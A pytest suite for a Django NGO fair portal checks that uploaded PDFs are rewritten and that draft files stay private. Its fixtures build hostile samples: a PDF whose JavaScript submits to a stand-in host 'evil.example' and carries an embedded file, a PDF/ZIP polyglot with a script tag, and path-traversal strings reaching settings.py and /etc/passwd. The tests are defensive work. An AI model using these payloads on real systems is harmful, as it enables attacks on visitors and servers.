"""Uploads must not attack visitors: PDFs are rewritten and downloaded, drafts' files stay private.

Each test reproduces an attack measured against the portal before these rules existed.
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse as django_reverse
from django.utils import translation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas

from projects import services
from projects.models import Project, ProjectState
from tests.factories.accounts import UserFactory, make_organiser, make_superuser
from tests.factories.jury import JurorFactory, ReviewFactory
from tests.factories.projects import MembershipFactory, OrganisationFactory, ProjectFactory, jpeg_upload

pytestmark = pytest.mark.django_db

ATTACK_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/Launch")


def reverse(name: str, args=None) -> str:
    with translation.override("en"):
        return django_reverse(name, args=args)


# --- hostile PDFs -----------------------------------------------------------------------------


def text_pdf(text: str = "Inclusive workshop budget 2026") -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=(595, 842))
    pdf.drawString(72, 770, text)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def javascript_pdf() -> bytes:
    """A real one-page document that runs JavaScript on opening, on a page, on a link, and carries a file."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    action = writer._add_object(
        DictionaryObject(
            {
                _name("/Type"): _name("/Action"),
                _name("/S"): _name("/JavaScript"),
                _name("/JS"): TextStringObject(
                    "app.alert('pwned'); this.submitForm('https://evil.example/');"
                ),
            }
        )
    )
    root = writer._root_object
    root[_name("/OpenAction")] = action
    root[_name("/AA")] = DictionaryObject({_name("/WC"): action})
    root[_name("/Names")][_name("/JavaScript")] = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("run"), action])}
    )
    page = writer.pages[0]
    page[_name("/AA")] = DictionaryObject({_name("/O"): action})
    # Hung on made-up keys, where a copy that follows every reference would pick them up.
    hidden_file = writer._add_object(
        DictionaryObject({_name("/Type"): _name("/EmbeddedFile"), _name("/Payload"): action})
    )
    page[_name("/Smuggled")] = hidden_file
    page["/Resources"].get_object()[_name("/Smuggled")] = hidden_file
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])
    writer.add_annotation(
        page,
        DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): rect,
                _name("/A"): action,
            }
        ),
    )
    writer.add_annotation(
        page,
        DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): rect,
                _name("/A"): DictionaryObject(
                    {_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("https://fair.example.kz/")}
                ),
            }
        ),
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    assert all(marker in data for marker in (b"/JavaScript", b"/OpenAction", b"/EmbeddedFile"))
    return data


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.domain)</script>")
    return buffer.getvalue()


def upload_pdf(client, project, data: bytes, **fields):
    return client.post(
        reverse("projects:project_update", args=[project.pk]),
        {
            "title": project.title,
            "content_language": "kk",
            **fields,
            "pdf": SimpleUploadedFile("deck.pdf", data, content_type="application/pdf"),
        },
    )


@pytest.fixture
def member_client(client):
    project = ProjectFactory()
    membership = MembershipFactory(organisation=project.organisation)
    client.force_login(membership.user)
    client.project = project
    client.member = membership.user
    return client


def stored_pdf(project) -> bytes:
    project.refresh_from_db()
    with project.pdf.open("rb") as stored:
        return stored.read()


def test_javascript_actions_and_embedded_files_do_not_survive_the_upload(member_client):
    project = member_client.project

    response = upload_pdf(member_client, project, javascript_pdf())

    assert response.status_code == 302, response.context["form"].errors
    data = stored_pdf(project)
    for marker in ATTACK_MARKERS:
        assert marker not in data, marker
    reader = PdfReader(io.BytesIO(data))
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert "/Names" not in reader.trailer["/Root"]
    # What the NGO meant to share is all still there: the page, its text and its web link.
    assert len(reader.pages) == 1
    assert "Inclusive workshop budget 2026" in reader.pages[0].extract_text()
    links = [annotation.get_object() for annotation in reader.pages[0].get("/Annots", [])]
    assert [link["/A"]["/URI"] for link in links] == ["https://fair.example.kz/"]


def test_a_zip_appended_to_a_pdf_does_not_survive_the_upload(member_client):
    project = member_client.project
    polyglot = text_pdf() + zip_bytes()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))  # what a browser or unzip would open

    response = upload_pdf(member_client, project, polyglot)

    assert response.status_code == 302, response.context["form"].errors
    data = stored_pdf(project)
    assert not zipfile.is_zipfile(io.BytesIO(data))
    assert b"PK\x03\x04" not in data
    assert b"<script>" not in data
    assert "Inclusive workshop budget 2026" in PdfReader(io.BytesIO(data)).pages[0].extract_text()


def test_an_unreadable_pdf_is_refused_and_the_rest_of_the_form_is_kept(member_client):
    project = member_client.project
    broken = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n" + zip_bytes()

    response = upload_pdf(member_client, project, broken, summary="Мой новый текст, набранный с трудом")

    assert response.status_code == 200
    html = response.content.decode()
    assert "The PDF file is damaged or cannot be read." in html
    assert "Мой новый текст, набранный с трудом" in html  # what was typed is still in the form
    project.refresh_from_db()
    assert not project.pdf
    assert project.summary != "Мой новый текст, набранный с трудом"


def test_the_admin_rewrites_pdfs_too(client):
    from projects.admin.forms import ProjectAdminForm

    form = ProjectAdminForm()
    form.cleaned_data = {
        "pdf": SimpleUploadedFile("deck.pdf", text_pdf() + zip_bytes(), content_type="application/pdf")
    }

    cleaned = form.clean_pdf()

    cleaned.seek(0)
    data = cleaned.read()
    assert not zipfile.is_zipfile(io.BytesIO(data))
    assert cleaned.name.endswith(".pdf")
    assert "deck" not in cleaned.name


# --- serving ----------------------------------------------------------------------------------


def project_with_files(state=ProjectState.DRAFT, **kwargs):
    """A project with one image and a PDF, uploaded the way an NGO does."""
    project = ProjectFactory(**kwargs)
    member = MembershipFactory(organisation=project.organisation).user
    image = services.project_add_image(project=project, user=member, upload=jpeg_upload(), alt_text="Фото")
    services.project_update(
        project=project,
        user=member,
        data={"pdf": SimpleUploadedFile("deck.pdf", text_pdf(), content_type="application/pdf")},
    )
    Project.objects.filter(pk=project.pk).update(state=state)
    project.refresh_from_db()
    project.member = member
    project.image = image
    return project


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_pdf_is_downloaded_never_shown_inline_from_our_origin(client):
    project = project_with_files(state=ProjectState.FINALIST)

    response = client.get(project.pdf.url)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert body(response).startswith(b"%PDF-")


def juror_for(project):
    review = ReviewFactory(fair=project.fair)
    return JurorFactory(review=review).user


@pytest.mark.parametrize("field", ["image", "thumbnail", "pdf"])
def test_a_drafts_files_are_404_for_strangers(client, field):
    project = project_with_files()
    url = project.pdf.url if field == "pdf" else getattr(project.image, field).url

    assert client.get(url).status_code == 404
    client.force_login(MembershipFactory().user)  # a member of another NGO
    assert client.get(url).status_code == 404
    client.force_login(UserFactory(is_staff=True))  # staff without the organisers' permissions
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("who", ["member", "organiser", "superuser"])
@pytest.mark.parametrize("field", ["image", "thumbnail", "pdf"])
def test_a_drafts_files_are_served_to_its_ngo_and_the_organisers(client, who, field):
    project = project_with_files()
    user = {
        "member": lambda: project.member,
        "organiser": make_organiser,
        "superuser": make_superuser,
    }[who]()
    client.force_login(user)
    url = project.pdf.url if field == "pdf" else getattr(project.image, field).url

    response = client.get(url)

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert len(body(response)) > 0


def test_jurors_see_the_files_of_the_submissions_they_review_only(client):
    project = project_with_files(state=ProjectState.SUBMITTED)
    juror = juror_for(project)
    elsewhere = project_with_files(state=ProjectState.SUBMITTED)  # another fair
    draft = project_with_files(state=ProjectState.DRAFT, fair=project.fair)  # not under review
    client.force_login(juror)

    assert client.get(project.image.image.url).status_code == 200
    assert client.get(project.pdf.url).status_code == 200
    assert client.get(elsewhere.image.image.url).status_code == 404
    assert client.get(draft.image.thumbnail.url).status_code == 404


def test_files_become_public_with_the_project(client):
    project = project_with_files(state=ProjectState.SUBMITTED)
    url = project.image.image.url
    assert client.get(url).status_code == 404

    Project.objects.filter(pk=project.pk).update(state=ProjectState.FINALIST)
    response = client.get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"].startswith("public, max-age=")
    assert "Cookie" not in response.get("Vary", "")
    assert body(response) == project.image.image.open("rb").read()


@pytest.mark.parametrize(
    "path",
    [
        "../fairportal/settings.py",
        "projects/images/../../../fairportal/settings.py",
        "%2e%2e/fairportal/settings.py",
        "projects/pdf//etc/passwd",
        "/etc/passwd",
        "projects/images/",
        "",
    ],
)
def test_traversal_and_unknown_paths_are_404(client, settings, path):
    (settings.MEDIA_ROOT / "projects" / "images").mkdir(parents=True, exist_ok=True)
    (settings.MEDIA_ROOT / "stray.jpg").write_bytes(b"not registered anywhere")

    assert client.get(f"/media/{path}").status_code == 404
    assert client.get("/media/stray.jpg").status_code == 404  # a file no upload owns


def test_with_nginx_the_app_only_checks_and_nginx_sends_the_file(client, settings):
    settings.MEDIA_ACCEL_REDIRECT_PREFIX = "/protected-media/"
    project = project_with_files(state=ProjectState.FINALIST)

    response = client.get(project.pdf.url)

    assert response.status_code == 200
    assert response["X-Accel-Redirect"] == f"/protected-media/{project.pdf.name}"
    assert response.content == b""
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/pdf"
    client.force_login(MembershipFactory().user)
    Project.objects.filter(pk=project.pk).update(state=ProjectState.DRAFT)
    assert "X-Accel-Redirect" not in client.get(project.pdf.url)


def test_media_requests_make_few_queries(client, django_assert_max_num_queries):
    public = project_with_files(state=ProjectState.FINALIST)
    draft = project_with_files()
    juror_project = project_with_files(state=ProjectState.SUBMITTED)
    juror = juror_for(juror_project)

    with django_assert_max_num_queries(2):
        assert client.get(public.image.thumbnail.url).status_code == 200
    client.force_login(draft.member)
    with django_assert_max_num_queries(6):
        assert client.get(draft.image.thumbnail.url).status_code == 200
    client.force_login(juror)
    with django_assert_max_num_queries(10):
        assert client.get(juror_project.image.thumbnail.url).status_code == 200


def test_logos_are_public_once_the_ngo_has_a_public_project(client):
    from projects.media import reencode_image

    organisation = OrganisationFactory()
    organisation.logo.save("logo.jpg", reencode_image(jpeg_upload()).image)
    member = MembershipFactory(organisation=organisation).user
    assert client.get(organisation.logo.url).status_code == 404

    client.force_login(member)
    assert client.get(organisation.logo.url).status_code == 200
    client.logout()
    ProjectFactory(organisation=organisation, state=ProjectState.FINALIST)
    assert client.get(organisation.logo.url).status_code == 200


def test_public_pages_show_images_that_load(client):
    project = project_with_files(state=ProjectState.FINALIST)

    page = client.get(reverse("catalogue:project_detail", args=[project.pk])).content.decode()

    assert project.image.image.url in page
    assert client.get(project.image.image.url).status_code == 200
